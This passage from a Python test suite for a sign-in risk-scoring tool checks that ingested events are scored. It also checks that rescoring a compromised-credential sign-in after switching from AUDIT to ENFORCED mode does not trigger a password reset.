    t = q(store, "SELECT max(creation_date) FROM events")[0][0].astimezone(timezone.utc) + timedelta(hours=1)

    def line(eid):
        return json.dumps({"EventId": eid, "UserPoolId": pool, "Username": user, "EventType": "SignIn",
                           "EventResponse": "Pass", "CreationDate": f"{t:%Y-%m-%dT%H:%M:%S}Z"})

    for eid in ("zz-b", "zz-a"):
        (tmp_path / f"{eid}.jsonl").write_text(line(eid) + "\n")
        rg("ingest", tmp_path / f"{eid}.jsonl", db=store)
        out = json.loads(rg("score", "--json", db=store).stdout)
    assert (out["events_scored"], out["stale_assessed"]) == (1, 1) and len(out["warnings"]) == 1, out


def test_a_rescore_requires_no_password_reset_the_first_assessment_did_not(tmp_path, monkeypatch):
    """A sign-in with compromised credentials decided in AUDIT (allowed, no reset) and rescored once the pool is
    ENFORCED set the user RESET_REQUIRED then, for a sign-in long past whose password may have changed since, as
    it emailed about it before emails followed only first assessments. A reset, like an email, is an action of
    the decision taken when the sign-in happened."""
    db, _users = _victim_store(tmp_path, monkeypatch, 300)
    rg("score", db=db)  # AUDIT, the default: recorded, nothing applied
    victim = ("SELECT a.reset_required, a.mode, a.decision_reasons FROM assessments a "
              "JOIN events e USING (event_id) WHERE e.username = 'victim'")
    [(reset, mode, _reasons)] = q(db, victim)
    assert (reset, mode) == (False, "AUDIT")
    rg("mode", "ENFORCED", db=db)
    rg("score", "--rescore", db=db)
    assert q(db, "SELECT user_status FROM users WHERE username = 'victim'") == [("CONFIRMED",)]
    from risk.score import _RESET_AGAIN_REASON

    [(reset, mode, reasons)] = q(db, victim)
    assert (reset, mode) == (False, "ENFORCED") and _RESET_AGAIN_REASON in reasons
    assert q(db, "SELECT count(*) FROM resets_applied")[0][0] == 0
